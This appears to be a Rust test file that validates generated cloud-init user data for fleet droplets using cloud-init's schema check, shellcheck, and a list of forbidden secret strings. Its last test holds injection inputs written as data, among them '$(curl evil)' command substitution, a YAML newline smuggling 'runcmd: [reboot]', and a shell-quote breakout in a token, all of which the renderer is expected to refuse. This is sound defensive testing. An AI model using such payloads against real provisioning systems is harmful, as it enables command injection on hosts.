//! The user data every droplet boots with, checked by cloud-init's own schema check and by
//! shellcheck. Both tools are required: install them with
//! `apt-get install -y cloud-init shellcheck` (scripts/test.sh does).

use std::{
    path::{Path, PathBuf},
    process::{Command, Output},
};

use flotilla_control_plane::fleet::provisioning::cloudinit::{DockerInstall, UserDataOptions, render};
use serde_json::Value;

const PIN: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const INSTALL: &str =
    "install them with `apt-get install -y cloud-init shellcheck` (Debian's packages; scripts/test.sh does)";

fn token() -> String {
    format!("FLT1-{PIN}-{}-{}", "0f".repeat(16), "5a".repeat(32))
}

fn variants() -> Vec<(&'static str, UserDataOptions)> {
    let base = UserDataOptions::new(
        "cp.example.com:7443",
        "cp.example.com:7444",
        token(),
        PIN,
        "ghcr.io/flotilla/agent:0.1.0",
    );
    vec![
        ("defaults", base.clone()),
        ("docker preinstalled", UserDataOptions { docker: DockerInstall::Skip, ..base.clone() }),
        (
            "ip addresses",
            UserDataOptions {
                control_plane: "[2001:db8::7]:7443".into(),
                enrollment: "192.0.2.7:17444".into(),
                ..base.clone()
            },
        ),
        (
            "private registry, digest, rotation",
            UserDataOptions {
                image: format!("registry.internal:5000/team/flotilla-agent:1.2.3@sha256:{PIN}"),
                log_max_size_mib: 50,
                log_max_files: 5,
                ..base.clone()
            },
        ),
        ("bare image name", UserDataOptions { image: "flotilla-agent".into(), ..base }),
    ]
}

fn run(program: &str, args: &[&str]) -> Output {
    Command::new(program).args(args).output().unwrap_or_else(|e| panic!("cannot run {program} ({e}): {INSTALL}"))
}

fn require_tools() {
    for (tool, args) in [("cloud-init", &["--version"][..]), ("shellcheck", &["--version"][..])] {
        let output = run(tool, args);
        assert!(output.status.success(), "{tool} --version failed: {INSTALL}");
    }
    let yaml = run("python3", &["-c", "import yaml"]);
    assert!(yaml.status.success(), "python3 with PyYAML is needed (Debian: python3-yaml, which cloud-init pulls in)");
}

fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("flotilla-cloudinit-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("a scratch dir");
    dir
}

fn text(output: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

/// `cloud-init schema -c FILE` must pass. Debian bookworm's cloud-init 22.4 wrongly rejects
/// `users: []` ("is too short", LP #1999476, fixed in 23.2, which accepts it): on that exact
/// and only error, the rest of the document must still pass without that line.
fn assert_schema_valid(file: &Path, doc: &str) {
    let path = file.to_str().expect("a UTF-8 path");
    let output = run("cloud-init", &["schema", "-c", path]);
    if output.status.success() {
        return;
    }
    let said = text(&output);
    let only_the_known_bug = said.lines().any(|l| l.trim() == "Cloud config schema errors: users: [] is too short");
    assert!(only_the_known_bug, "cloud-init schema refused {path}:\n{said}\n{doc}");
    let without = file.with_extension("no-users.yaml");
    std::fs::write(&without, doc.replacen("\nusers: []\n", "\n", 1)).expect("write");
    let output = run("cloud-init", &["schema", "-c", without.to_str().expect("a UTF-8 path")]);
    assert!(output.status.success(), "cloud-init schema refused {path}:\n{}\n{doc}", text(&output));
}

/// Reads the document as cloud-init does (YAML), writes each embedded script and the
/// `runcmd` script cloud-init would make, and returns a summary of what it found.
const EXTRACT: &str = r##"
import json, os, shlex, sys, yaml
doc = yaml.safe_load(open(sys.argv[1]))
out = sys.argv[2]
files = {}
scripts = []
for i, f in enumerate(doc.get("write_files") or []):
    files[f["path"]] = {"permissions": f.get("permissions"), "owner": f.get("owner"), "content": f.get("content", "")}
    if f.get("content", "").startswith("#!"):
        p = os.path.join(out, "write_files-%d.sh" % i)
        open(p, "w").write(f["content"])
        scripts.append(p)
lines = ["#!/bin/sh"]
for c in doc.get("runcmd") or []:
    lines.append(" ".join(shlex.quote(str(w)) for w in c) if isinstance(c, list) else c)
p = os.path.join(out, "runcmd.sh")
open(p, "w").write("\n".join(lines) + "\n")
scripts.append(p)
print(json.dumps({"keys": sorted(doc), "users": doc.get("users", "absent"), "files": files, "scripts": scripts}))
"##;

#[test]
fn every_variant_passes_cloud_init_schema_and_shellcheck() {
    require_tools();
    let forbidden = ["set -x", "dop_v1_", "postgres://", "DATABASE_URL", "MASTER_KEY", "passwd", "password", "sudo"];
    for (name, options) in variants() {
        let dir = scratch(&name.replace([' ', ','], "-"));
        let doc = render(&options).unwrap_or_else(|e| panic!("{name}: {e}"));
        let file = dir.join("user-data.yaml");
        std::fs::write(&file, &doc).expect("write the user data");

        assert_schema_valid(&file, &doc);

        let output = run("python3", &["-c", EXTRACT, file.to_str().expect("path"), dir.to_str().expect("path")]);
        assert!(output.status.success(), "{name}: reading the YAML failed: {}", text(&output));
        let summary: Value = serde_json::from_slice(&output.stdout).expect("the summary");
        assert_eq!(summary["users"], serde_json::json!([]), "{name}: no users, not even the default one");
        let env = &summary["files"]["/etc/flotilla/agent.env"];
        assert_eq!((env["permissions"].as_str(), env["owner"].as_str()), (Some("0600"), Some("root:root")), "{name}");
        let env_text = env["content"].as_str().expect("the env file");
        assert!(env_text.contains(&format!("FLOTILLA_TOKEN={}\n", token())), "{name}: {env_text}");
        assert!(env_text.contains(&format!("FLOTILLA_CA_SHA256={PIN}\n")), "{name}: {env_text}");
        let keys: Vec<&str> = summary["keys"].as_array().expect("keys").iter().filter_map(Value::as_str).collect();
        assert_eq!(
            keys,
            ["runcmd", "ssh_pwauth", "users", "write_files"],
            "{name}: nothing else, e.g. no packages or users"
        );

        let scripts = summary["scripts"].as_array().expect("scripts");
        assert_eq!(scripts.len(), 2, "{name}: the bootstrap script and runcmd");
        for script in scripts.iter().filter_map(Value::as_str) {
            let output = run("shellcheck", &["--severity=style", script]);
            let body = std::fs::read_to_string(script).unwrap_or_default();
            assert!(output.status.success(), "{name}: shellcheck {script}:\n{}\n{body}", text(&output));
        }

        for bad in forbidden {
            assert!(!doc.contains(bad), "{name}: the user data contains {bad:?}:\n{doc}");
        }
        assert_eq!(doc.matches(&token()).count(), 1, "{name}: the token only in the root-only file");
        let _ = std::fs::remove_dir_all(&dir);
    }
}

#[test]
fn bad_input_never_reaches_the_user_data() {
    let base = variants().remove(0).1;
    let bad = [
        UserDataOptions { control_plane: "cp.example.com:7443 --privileged".into(), ..base.clone() },
        UserDataOptions { enrollment: "$(curl evil):7444".into(), ..base.clone() },
        UserDataOptions { image: "agent:1\nruncmd: [reboot]".into(), ..base.clone() },
        UserDataOptions { token: "FLT1-'; reboot; '".into(), ..base.clone() },
        UserDataOptions { ca_sha256: "0".repeat(64), ..base },
    ];
    for options in bad {
        let err = render(&options).expect_err("refused");
        assert!(!err.to_string().is_empty());
    }
}
